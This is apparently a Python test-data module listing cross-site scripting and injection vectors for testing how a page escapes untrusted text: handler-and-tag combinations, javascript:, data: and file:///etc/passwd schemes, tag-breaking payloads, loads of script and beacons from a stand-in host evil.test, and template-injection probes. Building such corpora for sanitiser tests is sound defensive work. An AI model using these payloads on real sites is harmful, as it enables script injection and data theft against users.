"""Texts that try to become markup, script, style or an address in a page that shows them."""

# Kept as long as they are: a vector that is broken over lines is another vector.
# ruff: noqa: E501

from __future__ import annotations

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart")
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe", "math")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript&colon;alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "file:///etc/passwd",
    "//evil.test/x", "https:evil.test", "http:\\\\evil.test", "https://evil.test/\"onclick=alert(1)",
    "https://evil.test/'onclick='alert(1)", "https://evil.test/><script>alert(1)</script>", "https://\u202eevil.test/",
    "blob:https://evil.test/1", "about:blank",
)  # fmt: skip
_BREAKS = (
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</svg><script>alert(1)</script>",
    "</text></svg><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "</td></tr></table><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>", "<svg><script>alert&lpar;1&rpar;</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>", "<svg><use href=data:image/svg+xml,x#x>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<math><mi xlink:href=javascript:alert(1)>x",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>",
    "<style>*{background:url(//evil.test)}</style>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>", "<form action=//evil.test><button>x", "<object data=//evil.test></object>",
    "<embed src=//evil.test>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<img src=//evil.test/beacon>", "<img srcset='//evil.test/a 1x'>", "<body background=//evil.test>",
    "<table background=//evil.test>", "<isindex action=javascript:alert(1)>", "<noscript><p title=\"</noscript><img src=x>\">",
    "{{ 7*7 }}", "{% raw %}{{ config }}", "${7*7}", "{{''.__class__.__mro__}}", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)", "<\u202escript>", "\x1b]0;title\x07\x1b[31m", "a\u2028b\u2029c", "\ud7ff\ufffe<script>",
)  # fmt: skip

VECTORS = (
    *(f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS),
    *_SCHEMES,
    *_BREAKS,
)
